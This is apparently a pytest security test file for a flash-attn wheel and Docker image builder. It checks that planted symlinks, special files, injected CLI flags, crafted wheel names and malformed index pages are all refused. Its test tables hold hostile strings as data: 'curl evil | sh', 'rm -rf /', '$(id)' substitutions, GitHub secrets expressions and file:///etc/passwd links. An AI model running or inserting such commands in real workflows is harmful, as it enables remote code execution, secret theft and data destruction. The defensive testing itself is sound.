"""Hostile input, round 2: output paths, exports, dist merge, special files, index pages, doctor.

Each class of failure has its rows here, offline and in this process: a symlink planted where
fa-images writes, a flag that would inject into a workflow, a wheel of another project, a FIFO
where a wheel goes, a page that links to file://, a Python that lies. Every case ends in a
result or one `error:` line with its exit code; nothing outside the output dir changes.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import stat
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from fa_images import cli, doctor
from fa_images.builder import dist, elf, generations, safe_io, simple_index, untrusted, verify
from fa_images.commands import plan as plan_command
from fa_images.config import compatgen, grammar
from fa_images.errors import ConfigError, FatalError, UsageError, VerificationFailed

REPO = Path(__file__).resolve().parents[2]
ENTRY = '{python: "3.12", torch: "2.9.1", cuda: "12.8", flash_attn: "2.8.3", target: A100}'
WHEEL = "flash_attn-2.8.3+cu128torch2.9cxx11abitrue-cp311-cp311-linux_x86_64.whl"


def fa_images(capsys, *args: str | Path) -> tuple[int, str, str]:
    """The command line in this process: (exit code, stdout, stderr)."""
    try:
        code = cli.main([str(a) for a in args])
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def assert_clear_error(code: int, err: str, want_code: int, *needles: str) -> None:
    assert code == want_code, err
    assert "Traceback" not in err and "\x1b" not in err
    assert err.startswith("error: "), err
    for needle in needles:
        assert needle in err, err


@pytest.fixture(autouse=True)
def _bounded_time() -> Iterator[None]:
    """A case that would read forever (a FIFO, /dev/zero, a 0-size fatbin) fails instead of hanging."""

    def expire(_signum: int, _frame: object) -> None:
        raise TimeoutError("did not finish in 20 s: an unbounded read or a loop")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(20)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A folder outside every output dir; no case may change it."""
    folder = tmp_path / "victim"
    (folder / "other").mkdir(parents=True)
    (folder / "index.html").write_text("the user's")
    (folder / "other" / "keep.txt").write_text("the user's")
    (folder / "fa2.8.3-py3.12-torch2.9.1-cu128.Dockerfile").write_text("the user's")
    return folder


def snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): p.read_text() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def matrix(pinned_sdist: Callable[[Path], None]) -> Callable[[Path], Path]:
    """matrix(root) writes a one-entry root/matrix.yaml beside pinned_sdist(root) and returns its path."""

    def write(root: Path) -> Path:
        pinned_sdist(root)
        path = root / "matrix.yaml"
        path.write_text(
            f"image: ghcr.io/acme/fa\ncompat: compat.yaml\npackages: {{sdists: sdists}}\nentries: [{ENTRY}]\n"
        )
        return path

    return write


# --- 1. writes and deletes through symlinks ------------------------------------------------


def _incoming(tmp_path: Path) -> list[dist.Incoming]:
    wheel = tmp_path / "in" / WHEEL
    wheel.parent.mkdir(exist_ok=True)
    wheel.write_bytes(b"not really a wheel: add_wheels trusts its caller's verification")
    record = dist.WheelRecord(
        sha256=hashlib.sha256(wheel.read_bytes()).hexdigest(),
        size=wheel.stat().st_size,
        flash_attn="2.8.3",
        python="3.11",
    )
    return [dist.Incoming(wheel, record, "test")]


def _plant(link: Path, target: Path) -> None:
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)


# (what is planted, relative to dist/ -> where it points; "victim" is the victim folder)
DIST_LINKS = {
    "dist/simple is a symlink": ("simple", "victim"),
    "dist/simple/<project> is a symlink": ("simple/flash-attn", "victim"),
    "a stale project dir is a symlink": ("simple/old-project", "victim"),
    "the wheel's name is a symlink": (WHEEL, "victim/index.html"),
    "manifest.json is a symlink to a folder": ("manifest.json", "victim"),
}


@pytest.mark.parametrize("case", sorted(DIST_LINKS))
def test_dist_never_writes_or_deletes_through_a_planted_link(case: str, tmp_path: Path, victim: Path) -> None:
    where, target = DIST_LINKS[case]
    out = tmp_path / "dist"
    out.mkdir()
    _plant(out / where, tmp_path / target)
    before = snapshot(victim)
    try:
        dist.add_wheels(out, _incoming(tmp_path))
    except FatalError as exc:
        assert exc.exit_code in (2, 6) and str(exc)  # bad input, or a conflict with what dist/ holds
    assert snapshot(victim) == before
    assert (out / where).is_symlink()  # not removed either: the tool did not make it


def test_dist_dir_itself_a_symlink_is_refused(tmp_path: Path, victim: Path) -> None:
    _plant(tmp_path / "dist", victim)
    with pytest.raises(UsageError, match="is a symlink"):
        dist.add_wheels(tmp_path / "dist", _incoming(tmp_path))
    assert not (victim / WHEEL).exists()


def test_a_stale_project_dir_loses_only_its_index_page(tmp_path: Path) -> None:
    out = tmp_path / "dist"
    stale = out / "simple" / "old-project"
    stale.mkdir(parents=True)
    (stale / "index.html").write_text("written by fa-images once")
    (stale / "notes.txt").write_text("the user's")
    (out / "simple" / "empty-stale").mkdir()
    dist.add_wheels(out, _incoming(tmp_path))
    assert sorted(p.name for p in stale.iterdir()) == ["notes.txt"]
    assert not (out / "simple" / "empty-stale").exists()
    assert (out / "simple" / "flash-attn" / "index.html").is_file()


RENDER_LINKS = {
    "a rendered Dockerfile is a symlink": "dockerfiles/fa2.8.3-py3.12-torch2.9.1-cu128.Dockerfile",
    "the out dir is a symlink": "dockerfiles",
}


@pytest.mark.parametrize("case", sorted(RENDER_LINKS))
def test_render_never_writes_through_a_committed_link(case: str, tmp_path: Path, victim: Path, capsys, matrix) -> None:
    link = tmp_path / RENDER_LINKS[case]
    _plant(link, victim / "fa2.8.3-py3.12-torch2.9.1-cu128.Dockerfile" if link.suffix else victim)
    before = snapshot(victim)
    code, _out, err = fa_images(capsys, "render", "--matrix", matrix(tmp_path), "--out", tmp_path / "dockerfiles")
    assert_clear_error(code, err, 2, "symlink")
    assert snapshot(victim) == before
    code, _out, _err = fa_images(
        capsys, "render", "--matrix", tmp_path / "matrix.yaml", "--out", tmp_path / "dockerfiles", "--check"
    )
    assert code == 1 and snapshot(victim) == before  # --check reads nothing through the link either


BAKE_LINKS = {
    "contexts/ is a symlink": "contexts",
    "contexts/<entry> is a symlink": "contexts/fa2_8_3-py3_12-torch2_9_1-cu128",
}


@pytest.mark.parametrize("case", sorted(BAKE_LINKS))
def test_bake_never_replaces_or_deletes_through_a_link(case: str, tmp_path: Path, victim: Path, capsys, matrix) -> None:
    _plant(tmp_path / "bake" / BAKE_LINKS[case], victim)
    before = snapshot(victim)
    code, _out, err = fa_images(capsys, "export", "bake", "--matrix", matrix(tmp_path), "--out-dir", tmp_path / "bake")
    assert_clear_error(code, err, 2)
    assert snapshot(victim) == before


def test_bake_removes_only_the_contexts_it_made(tmp_path: Path, capsys, matrix) -> None:
    mine = tmp_path / "bake" / "contexts" / "users-own"
    mine.mkdir(parents=True)
    (mine / "keep.txt").write_text("the user's")
    args = ["export", "bake", "--matrix", matrix(tmp_path), "--out-dir", tmp_path / "bake"]
    assert fa_images(capsys, *args)[0] == 0
    assert fa_images(capsys, *args)[0] == 0  # again: its own context is replaced
    assert (mine / "keep.txt").read_text() == "the user's"
    made = tmp_path / "bake" / "contexts" / "fa2_8_3-py3_12-torch2_9_1-cu128"
    assert (made / "Dockerfile").is_file()


WRONG_KIND_OUTPUTS = {
    "export github --out is a folder": (["export", "github", "--out", "{dir}"], "must be a file"),
    "export github --out's folder is a file": (["export", "github", "--out", "{file}/wf.yml"], "cannot be a directory"),
    "export github --out is a symlink": (["export", "github", "--out", "{link}"], "symlink"),
    "render --out is a file": (["render", "--out", "{file}"], "cannot be a directory"),
    "export bake --out-dir is a file": (["export", "bake", "--out-dir", "{file}"], "cannot be a directory"),
}


@pytest.mark.parametrize("case", sorted(WRONG_KIND_OUTPUTS))
def test_an_output_path_of_the_wrong_kind_is_one_error(case: str, tmp_path: Path, victim: Path, capsys, matrix) -> None:
    args, needle = WRONG_KIND_OUTPUTS[case]
    (tmp_path / "a-dir").mkdir()
    (tmp_path / "a-file").write_text("mine")
    (tmp_path / "a-link").symlink_to(victim / "index.html")
    paths = {"dir": tmp_path / "a-dir", "file": tmp_path / "a-file", "link": tmp_path / "a-link"}
    argv = [a.format(**paths) for a in args]
    code, _out, err = fa_images(capsys, *argv, "--matrix", matrix(tmp_path))
    assert_clear_error(code, err, 2, needle)
    assert (tmp_path / "a-file").read_text() == "mine" and (victim / "index.html").read_text() == "the user's"


@pytest.mark.parametrize("blocker", ["dir", "link"])
def test_compat_refresh_checks_its_out_path_before_asking_any_index(blocker: str, tmp_path: Path, capsys) -> None:
    out = tmp_path / "new.yaml"
    out.mkdir() if blocker == "dir" else out.symlink_to(tmp_path)
    # Port 9 is nothing here: had the index been asked first, the error would say so.
    code, _out, err = fa_images(capsys, "compat", "refresh", "--out", out, "--pypi", "http://127.0.0.1:9/simple")
    assert_clear_error(code, err, 2, "--out")
    assert "cannot refresh" not in err


def test_a_failed_compat_refresh_leaves_the_out_file_as_it_was(tmp_path: Path, capsys) -> None:
    out = tmp_path / "new.yaml"
    out.write_text("the previous table\n")
    code, _out, err = fa_images(capsys, "compat", "refresh", "--out", out, "--pypi", "http://127.0.0.1:9/simple")
    assert_clear_error(code, err, 2, "cannot refresh")
    assert out.read_text() == "the previous table\n"
    assert [p.name for p in tmp_path.iterdir()] == ["new.yaml"]  # no temporary file left


# --- 2. workflow and bake injection --------------------------------------------------------

INJECTIONS = {
    "--python with an expression": (["--python", "${{ github.token }}"], "--python"),
    "--python with a newline": (["--python", "3.11\n    run: curl evil | sh"], "--python"),
    "--install with an expression": (["--install", ".[${{ secrets.REGISTRY_TOKEN }}]"], "--install"),
    "--install that is an option": (["--install=--index-url=http://evil/"], "--install"),
    "--install with a space": (["--install", ". && curl evil"], "--install"),
    "--release that is an option": (["--release=--repo=evil/x"], "--release"),
    "--release starting with -": (["--release=-R"], "--release"),
    "--release with ..": (["--release", "v1..2"], "--release"),
    "--release ending in .lock": (["--release", "v1.lock"], "--release"),
    "--release with a newline": (["--release", "v1\nrm -rf /"], "--release"),
    "--runs-on with a newline": (["--runs-on", "a\nb"], "--runs-on"),
    "--merge-runs-on with an expression": (["--merge-runs-on", "${{ x }}"], "--merge-runs-on"),
}


@pytest.mark.parametrize("case", sorted(INJECTIONS))
def test_no_flag_injects_into_the_workflow(case: str, tmp_path: Path, capsys, matrix) -> None:
    flags, needle = INJECTIONS[case]
    out = tmp_path / "wf.yml"
    code, _out, err = fa_images(capsys, "export", "github", "--matrix", matrix(tmp_path), "--out", out, *flags)
    assert_clear_error(code, err, 2, needle)
    assert not out.exists()


@pytest.mark.parametrize(
    "name", ["m\n# x\non: push\n.yaml", "${{ secrets.REGISTRY_TOKEN }}.yaml", "-m.yaml", "m'x.yaml"]
)
def test_the_matrix_path_cannot_inject_either(name: str, tmp_path: Path, capsys, matrix, monkeypatch) -> None:
    matrix(tmp_path).rename(tmp_path / name)
    monkeypatch.chdir(tmp_path)  # a relative path, as a workflow names it
    code, _out, err = fa_images(capsys, "export", "github", f"--matrix={name}", "--out", tmp_path / "wf.yml")
    assert_clear_error(code, err, 2, "--matrix")
    assert not (tmp_path / "wf.yml").exists()


def test_expressions_appear_only_where_the_tool_writes_them(tmp_path: Path, capsys, matrix) -> None:
    out = tmp_path / "wf.yml"
    flags = ["--push", "--release", "v2.8.3", "--python", "3.12", "--install", "fa-images[docker]==0.3"]
    code, _out, err = fa_images(capsys, "export", "github", "--matrix", matrix(tmp_path), "--out", out, *flags)
    assert code == 0, err
    import re

    found = set(re.findall(r"\$\{\{[^}]*\}\}", out.read_text()))
    allowed = {"${{ secrets.REGISTRY_USERNAME }}", "${{ secrets.REGISTRY_TOKEN }}", "${{ secrets.GITHUB_TOKEN }}"}
    assert found <= allowed | {"${{ !cancelled() }}"}


@pytest.mark.parametrize(
    "spec",
    ["type=registry,ref=${HOME}/cache", "type=registry,ref=a\nb", 'type=registry,ref="x"', "type=registry,ref=a b"],
)
def test_a_cache_spec_cannot_inject_into_the_bake_file(spec: str, tmp_path: Path, capsys, matrix) -> None:
    code, _out, err = fa_images(
        capsys, "export", "bake", "--matrix", matrix(tmp_path), "--out-dir", tmp_path / "b", "--cache-from", spec
    )
    assert_clear_error(code, err, 2, "cache spec")
    assert not (tmp_path / "b").exists()


@pytest.mark.parametrize(
    ("check", "good", "bad"),
    [
        (
            grammar.git_tag,
            ["v2.8.3", "wheels", "release/2.8", "v1+cu128"],
            ["-x", ".v", "a..b", "a/", "a.lock", "@", "a//b", ""],
        ),
        (grammar.setup_python, ["3.11", "3.12.4", "3.13t", "pypy3.10"], ["3", "latest", "3.11 ", ""]),
        (
            grammar.install_spec,
            [".", "fa-images==0.3", "git+https://h/r@v1", "./x[docker]", "git+ssh://git@h/r@v1"],
            ["-e", "a b", "$x", "", "git+https://u:tok@h/r@v1", "git+https://tok@h/r", "git+ssh://u:pw@h/r"],
        ),
        (grammar.repo_path, ["matrix.yaml", "/abs/m.yaml", "ci/m.yaml"], ["-m", "a b", "a$b", "a\nb"]),
        (
            grammar.cache_spec,
            ["type=inline", "type=registry,ref=ghcr.io/a/c:x,mode=max", "type=gha,scope=fa"],
            ["", "ref", "a=b,", "a=$b", "type=gha,token=t", "type=s3,secret_access_key=k", "type=gha,url=http://u:p@h"]
            + ["type=gha,ghtoken=t", "type=s3,access_key_id=k", "type=azblob,account_key=k", "type=x,password=p"],
        ),
        (
            grammar.index_url,
            ["https://pypi.org/simple", "https://u:t%2Bk@h.org/s", "http://[::1]:8080/simple", "file:///srv/s"],
            ["https://h.org\\@evil.org/s", "https://$(id)@h.org/s", "https://a@b@h.org/s", "file://u:p@localhost/s"],
        ),
        (grammar.generated_value, ["plain text", "a$b"], ["a${{ b }}", "a$(id)", "a`id`", "a\nb", "a\x1bb"]),
    ],
    ids=["git_tag", "setup_python", "install_spec", "repo_path", "cache_spec", "index_url", "generated_value"],
)
def test_each_workflow_grammar_takes_what_it_must_and_refuses_the_rest(check, good, bad) -> None:
    assert [v for v in good if check(v)] == []
    assert [v for v in bad if not check(v)] == []


# --- 3. dist merge accepts only flash-attn wheels that agree with themselves ----------------

BAD_WHEEL_NAMES = {
    "a semicolon in a tag": "flash_attn-2.8.3-cp311-cp311-linux_x86_64;id.whl",
    "a command substitution": "flash_attn-2.8.3-cp311-cp311-$(id).whl",
    "an escape in the version": "flash_attn-2.8.3\x1b[31m-cp311-cp311-linux_x86_64.whl",
    "a newline": "flash_attn-2.8.3-cp311-cp311-linux\n_x86_64.whl",
    "another project": "torch-2.9.1-cp311-cp311-linux_x86_64.whl",
    "a Windows platform": "flash_attn-2.8.3-cp311-cp311-win_amd64.whl",
    "a macOS platform": "flash_attn-2.8.3-cp311-cp311-macosx_11_0_arm64.whl",
    "a directory part": "../flash_attn-2.8.3-cp311-cp311-linux_x86_64.whl",
    "hidden": ".flash_attn-2.8.3-cp311-cp311-linux_x86_64.whl",
}


@pytest.mark.parametrize("case", sorted(BAD_WHEEL_NAMES))
def test_dist_merge_refuses_a_wheel_name_that_is_not_a_flash_attn_wheel(case: str, tmp_path: Path, capsys) -> None:
    name = BAD_WHEEL_NAMES[case]
    src = tmp_path / "src"
    src.mkdir()
    if "/" not in name:
        (src / name).write_bytes(b"x")
    record = {"sha256": hashlib.sha256(b"x").hexdigest(), "size": 1, "flash_attn": "2.8.3", "python": "3.11"}
    (src / "manifest.json").write_text(json.dumps({"schema_version": 1, "wheels": {name: record}}))
    code, _out, err = fa_images(capsys, "dist", "merge", src, "--dist", tmp_path / "dist")
    assert_clear_error(code, err, 2, "whl")
    assert not (tmp_path / "dist").exists()


def _wheel(path: Path, metadata: str) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("flash_attn-2.8.3.dist-info/METADATA", metadata)
        zf.writestr("flash_attn-2.8.3.dist-info/WHEEL", "Wheel-Version: 1.0\n")
        zf.writestr("flash_attn_2_cuda.cpython-311-x86_64-linux-gnu.so", b"\x7fELF\x02\x01" + b"\0" * 10)
    return path


@pytest.mark.parametrize(
    ("metadata", "says"),
    [
        ("Name: torch\nVersion: 2.8.3+cu128torch2.9cxx11abitrue\n", "METADATA says torch"),
        ("Name: flash-attn\nVersion: 2.8.4\n", "METADATA says 2.8.4"),
        ("Name: flash-attn\n", "METADATA says None"),
    ],
    ids=["another project", "another version", "no version"],
)
def test_a_wheel_whose_metadata_disagrees_with_its_name_is_not_sound(metadata: str, says: str, tmp_path: Path) -> None:
    report = verify.inspect_wheel(_wheel(tmp_path / WHEEL, metadata), import_check=False)
    assert [c.detail for c in report.checks if c.name == "metadata" and c.status == "fail"] == [
        next(c.detail for c in report.checks if c.name == "metadata")
    ]
    assert says in next(c.detail for c in report.checks if c.name == "metadata")


def test_a_record_whose_version_disagrees_with_the_wheel_is_refused(tmp_path: Path, monkeypatch) -> None:
    wheel = tmp_path / WHEEL
    wheel.write_bytes(b"x")
    record = dist.WheelRecord(sha256=hashlib.sha256(b"x").hexdigest(), size=1, flash_attn="2.8.2", python="3.11")
    sound = verify.WheelReport(wheel=WHEEL, version="2.8.3+cu128torch2.9cxx11abitrue")
    monkeypatch.setattr(verify, "inspect_wheel", lambda *a, **k: sound)
    with pytest.raises(VerificationFailed, match=r"records flash_attn '2\.8\.2'"):
        dist.verify_incoming(dist.Incoming(wheel, record, "manifest.json"), log=lambda _: None)


# --- 4. special files and loops: every read is bounded -------------------------------------


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def _dev_zero(path: Path) -> Path:
    path.symlink_to("/dev/zero")
    return path


SPECIAL = {"a FIFO": _fifo, "/dev/zero through a symlink": _dev_zero}


@pytest.mark.parametrize("kind", sorted(SPECIAL))
def test_a_special_file_is_refused_where_a_wheel_manifest_or_sdist_goes(
    kind: str, tmp_path: Path, capsys, prepare_only
) -> None:
    make = SPECIAL[kind]
    wheel = make(tmp_path / WHEEL)
    code, _out, err = fa_images(capsys, "inspect", wheel, "--no-import")
    assert_clear_error(code, err, 2)
    src = tmp_path / "src"
    src.mkdir()
    make(src / "manifest.json")
    code, _out, err = fa_images(capsys, "dist", "merge", src, "--dist", tmp_path / "dist")
    assert_clear_error(code, err, 2, "not a regular file")
    sdist = make(tmp_path / "flash_attn-2.8.3.tar.gz")
    code, _out, err = fa_images(capsys, *prepare_only(sdist=sdist, out=tmp_path / "out"))
    assert_clear_error(code, err, 4, "not a regular file")
    for read in (untrusted.read_file, lambda p, **k: untrusted.open_regular(p).close()):
        with pytest.raises(untrusted.UntrustedInput, match="not a regular file"):
            read(wheel, limit=10)


def _container(header_size: int, fat_size: int, entries: bytes = b"") -> bytes:
    import struct

    return struct.pack("<IHHQ", elf.FATBIN_MAGIC, 1, header_size, fat_size) + entries


def _entry(header: int, payload: int) -> bytes:
    import struct

    return struct.pack("<HHIQ", elf.FATBIN_KIND_CUBIN, 1, header, payload) + b"\0" * 12 + (90).to_bytes(4, "little")


FATBINS = {
    "a container of size 0 and header 0": _container(0, 0),
    "a container of size 0": _container(16, 0) * 3,
    "an entry of size 0": _container(16, 32, _entry(0, 0)),
    "a container that claims more than the section": _container(16, 1 << 60, _entry(32, 0)),
    "an entry whose payload runs past the end": _container(16, 64, _entry(32, 1 << 62)),
}


@pytest.mark.parametrize("case", sorted(FATBINS))
def test_the_fatbin_reader_always_makes_progress(case: str) -> None:
    data = FATBINS[case]
    try:
        cubins, ptx = elf.read_fatbins(data, [(0, len(data))])
    except elf.ElfError:
        return
    assert cubins <= {"90"} and ptx == set()


# --- 5. index pages: bounded, on their own scheme and host ----------------------------------

PAGE = "https://pypi.example/simple/flash-attn/"
LINKS = {
    "flash_attn-2.8.3.tar.gz": "https://pypi.example/simple/flash-attn/flash_attn-2.8.3.tar.gz",
    "/packages/f.tar.gz": "https://pypi.example/packages/f.tar.gz",
    "https://files.example/f.tar.gz": "https://files.example/f.tar.gz",
    "file:///etc/passwd": None,
    "http://pypi.example/f.tar.gz": None,
    "http://evil.example/f.tar.gz": None,
    "ftp://pypi.example/f.tar.gz": None,
    "//evil.example/f.tar.gz": "https://evil.example/f.tar.gz",
    "http://[::1/f.tar.gz": None,
    "https://pypi.example:99999/f": None,
}


@pytest.mark.parametrize("href", sorted(LINKS))
@pytest.mark.parametrize("fmt", ["json", "html"])
def test_a_link_stays_on_its_pages_scheme_and_host(href: str, fmt: str) -> None:
    if fmt == "json":
        body = json.dumps({"files": [{"filename": "flash_attn-2.8.3.tar.gz", "url": href}]}).encode()
    else:
        body = f'<a href="{href}">flash_attn-2.8.3.tar.gz</a>'.encode()
    want = LINKS[href]
    if want is None:
        with pytest.raises(ValueError):
            simple_index.parse(body, fmt, url=PAGE)
    else:
        assert simple_index.parse(body, fmt, url=PAGE).files[0].url == want


def test_an_http_page_may_not_link_to_file(tmp_path: Path) -> None:
    with pytest.raises(untrusted.UntrustedInput, match="off its own scheme"):
        untrusted.link("http://127.0.0.1:8080/simple/flash-attn/", f"file://{tmp_path}/x.tar.gz")
    assert untrusted.link("file:///srv/simple/flash-attn/", "x.tar.gz") == "file:///srv/simple/flash-attn/x.tar.gz"


BAD_PAGES = {
    "not UTF-8 HTML": (b'<a href="x">\xff\xfe</a>', "html", "not UTF-8"),
    "not UTF-8 JSON": (b'{"files": ["\xff"]}', "json", "not UTF-8"),
    "deeply nested JSON": (b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "json", "nests too deeply"),
    "a 5000-digit integer": (b'{"files": [], "versions": [' + b"9" * 5000 + b"]}", "json", "not valid JSON"),
    "files as a string": (b'{"files": "x"}', "json", "list of files"),
}


@pytest.mark.parametrize("case", sorted(BAD_PAGES))
def test_a_malformed_index_page_is_one_value_error(case: str) -> None:
    body, fmt, says = BAD_PAGES[case]
    with pytest.raises(ValueError, match=says):
        simple_index.parse(body, fmt, url=PAGE)


def test_wrongly_typed_json_entries_name_no_file() -> None:
    files = [
        {"filename": 5, "url": "x"},
        {"filename": "a.tar.gz", "url": "a.tar.gz", "hashes": ["sha256"]},
        {"filename": "b.tar.gz", "url": "b.tar.gz", "hashes": {"sha256": 7}},
    ]
    page = simple_index.parse(json.dumps({"files": files, "versions": {"a": 1}}).encode(), "json", url=PAGE)
    assert [(f.filename, f.sha256) for f in page.files] == [("a.tar.gz", None), ("b.tar.gz", None)]
    assert page.versions == []


class _Endless(io.RawIOBase):
    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        buffer[:] = b"x" * len(buffer)
        return len(buffer)


def test_an_endless_page_stops_at_the_size_cap_and_the_deadline() -> None:
    with pytest.raises(untrusted.UntrustedInput, match="more than 1 MiB"):
        untrusted.read_response(io.BufferedReader(_Endless()), url=PAGE, limit=1 << 20)
    with pytest.raises(untrusted.UntrustedInput, match="took longer than"):
        untrusted.read_response(io.BufferedReader(_Endless()), url=PAGE, limit=1 << 40, timeout=0.05)


# --- 6. compat refresh: validate, then write; YAML through a serializer ---------------------

CRAFTED = "d0f9" + "0" * 60 + '}\n  "2.4.0": {sha256: ' + "0" * 64 + ", cuda_archs_env: true"


@pytest.mark.parametrize("sha", [CRAFTED, "D0F9" * 16, "0" * 63])
def test_a_crafted_sha256_adds_no_entry(sha: str, tmp_path: Path) -> None:
    table = tmp_path / "compat.yaml"
    text = (REPO / "fa_images" / "config" / "compat.yaml").read_text()
    table.write_text("\n".join(line for line in text.splitlines() if '"2.8.3.post2": {sha256' not in line) + "\n")
    pages = {
        "torch/": b'{"files": []}',
        "flash-attn/": json.dumps(
            {"files": [{"filename": "flash_attn-2.8.3.post2.tar.gz", "url": "f.tar.gz", "hashes": {"sha256": sha}}]}
        ).encode(),
    }

    def fetch(url: str, _headers: dict[str, str]) -> bytes:
        for suffix, body in pages.items():
            if url.endswith("/simple/" + suffix):
                return body
        raise FileNotFoundError(url)

    result = compatgen.refresh(table, fetch=fetch, pypi="https://pypi.example/simple")
    flash_attn = result.text.split("# BEGIN generated flash_attn")[1]
    assert '"2.4.0"' not in flash_attn and "2.8.3.post2" not in flash_attn
    assert any("not 64 hex digits" in n for n in result.notes)


def test_a_refreshed_table_is_validated_before_it_is_returned(tmp_path: Path) -> None:
    with pytest.raises(ConfigError):
        compatgen.validate('torch: {"2.9.1": {python: 5}}\n', tmp_path / "compat.yaml")


# --- 7. one boundary: clean errors for input, a visible bug for the rest --------------------

MANIFESTS = {
    "an int where a name goes": {"schema_version": 1, "wheels": {WHEEL: {"sha256": 5, "size": 1}}},
    "a string where the records go": {"schema_version": 1, "wheels": "all of them"},
    "a list where a record goes": {"schema_version": 1, "wheels": {WHEEL: ["sha256"]}},
    "a string schema version": {"schema_version": "1", "wheels": {}},
    "a size that is a float": {
        "wheels": {WHEEL: {"sha256": "0" * 64, "size": 1.5, "flash_attn": "2.8.3", "python": "3.11"}}
    },
    # Text that reaches manifest.json, the index pages and reports as it is: each field its grammar.
    **{
        f"{key} {value!r}": {
            "wheels": {WHEEL: {"sha256": "0" * 64, "size": 1, **{"flash_attn": "2.8.3", "python": "3.11", key: value}}}
        }
        for key, value in [
            ("python", ""),  # an empty Python would skip the wheel's tag check
            ("torch", "2.9\n\x1b[2J"),
            ("cuda", "../../x"),
            ("entry", "a b"),
            ("image", "<script>"),
            ("inputs", "not a digest"),
        ]
    },
}
RAW_MANIFESTS = {
    "nested 100,000 deep": b"[" * 100_000 + b"]" * 100_000,
    "an integer of 5,000 digits": b'{"schema_version": ' + b"1" * 5000 + b"}",
    "not UTF-8": b'{"wheels": "\xff"}',
    "bigger than the cap": b" " * (untrusted.MAX_MANIFEST + 1),
}


@pytest.mark.parametrize("case", sorted(MANIFESTS) + sorted(RAW_MANIFESTS))
def test_a_hostile_manifest_is_one_error_line(case: str, tmp_path: Path, capsys) -> None:
    src = tmp_path / "src"
    src.mkdir()
    raw = RAW_MANIFESTS.get(case) or json.dumps(MANIFESTS[case]).encode()
    (src / "manifest.json").write_bytes(raw)
    (src / WHEEL).write_bytes(b"x")
    code, _out, err = fa_images(capsys, "dist", "merge", src, "--dist", tmp_path / "dist")
    assert_clear_error(code, err, 2)


def test_a_record_whose_size_is_not_the_wheels_is_refused(tmp_path: Path, capsys) -> None:
    """The recorded size goes into the index pages as it is: it must be the file's."""
    src = tmp_path / "src"
    src.mkdir()
    (src / WHEEL).write_bytes(b"x")
    record = {"sha256": hashlib.sha256(b"x").hexdigest(), "size": 10**30, "flash_attn": "2.8.3", "python": "3.11"}
    (src / "manifest.json").write_text(json.dumps({"wheels": {WHEEL: record}}))
    code, _out, err = fa_images(capsys, "dist", "merge", src, "--dist", tmp_path / "dist")
    assert_clear_error(code, err, 6, "is 1 bytes, but", f"records {10**30}")
    assert not (tmp_path / "dist").exists() or not any((tmp_path / "dist").iterdir())


@pytest.mark.parametrize(
    ("raised", "code", "says"),
    [
        (IsADirectoryError(21, "Is a directory", "some/path"), 2, "error: cannot use some/path: Is a directory"),
        (OSError(28, "No space left on device"), 3, "error: [Errno 28] No space left on device"),
        (ValueError("a value no parser takes"), 2, "error: a value no parser takes"),
        (RecursionError("maximum recursion depth exceeded"), 2, "error: the input nests too deeply to be read"),
        (ValueError("escape \x1b[2J here"), 2, "error: escape \\x1b[2J here"),
    ],
    ids=["a path of the wrong kind", "no space", "a bad value", "too deep", "an escape in the message"],
)
def test_main_turns_input_errors_into_one_line(raised: Exception, code: int, says: str, capsys, monkeypatch) -> None:
    def boom(_args: object) -> int:
        raise raised

    monkeypatch.setattr(plan_command, "run", boom)
    got, _out, err = fa_images(capsys, "plan")
    assert got == code and err.splitlines() == [says]


def test_an_internal_bug_stays_visible_and_asks_for_a_report(capsys, monkeypatch) -> None:
    missing: dict[str, int] = {}
    monkeypatch.setattr(plan_command, "run", lambda _args: missing["missing key"])
    code, _out, err = fa_images(capsys, "plan")
    assert code == 70
    assert "Traceback" in err and "KeyError" in err and "please report it" in err.splitlines()[-1]


# --- 7b. doctor and inspect --python against a broken or lying machine ---------------------


def _script(path: Path, body: str) -> str:
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(path.stat().st_mode | stat.S_IEXEC)
    return str(path)


LIARS = {
    "does not exist": None,
    "exits quietly": "exit 0\n",
    "prints garbage": 'echo \'{"so": 5, "version": [1]}\'\necho "\\033]0;pwned\\007 3.x"\n',
    "torch import exits quietly": f'case "$2" in *torch*) exit 0;; esac\nexec {sys.executable} "$@"\n',
    "torch has no version": (
        f'case "$2" in *torch.__version__*) echo \'{{"version": null}}\'; exit 0;; esac\nexec {sys.executable} "$@"\n'
    ),
    "not a program": "\x00\x01binary",
}


@pytest.mark.parametrize("case", sorted(LIARS))
def test_doctor_survives_a_python_that_lies_or_is_missing(case: str, tmp_path: Path, capsys, monkeypatch) -> None:
    body = LIARS[case]
    python = str(tmp_path / "python") if body is None else _script(tmp_path / "python", body)
    monkeypatch.setattr(doctor, "_validate", lambda entry: None)  # the matrix load is tested elsewhere
    code, out, err = fa_images(capsys, "doctor", "--python", python)
    assert code in (0, 1) and "Traceback" not in err + out and "\x1b" not in out, err


@pytest.mark.parametrize(
    "smi",
    [
        "NVIDIA A100, N/A, 550.54\n",
        "only one field\n",
        "A, 8.0\n",
        "NVIDIA H100, 80GB, 9.0, 550.54\n",
        "\x1b[2J, 9.0, 550\n",
    ],
    ids=["N/A capability", "one field", "two fields", "four fields", "an escape in the name"],
)
def test_doctor_survives_nvidia_smi_of_another_shape(smi: str, tmp_path: Path, capsys, monkeypatch) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (tmp_path / "out.txt").write_text(smi)
    _script(bin_dir / "nvidia-smi", f"cat {tmp_path / 'out.txt'}\n")
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setattr(doctor, "_validate", lambda entry: None)
    monkeypatch.setattr(doctor, "probe_flash_attn", lambda *a, **k: None)
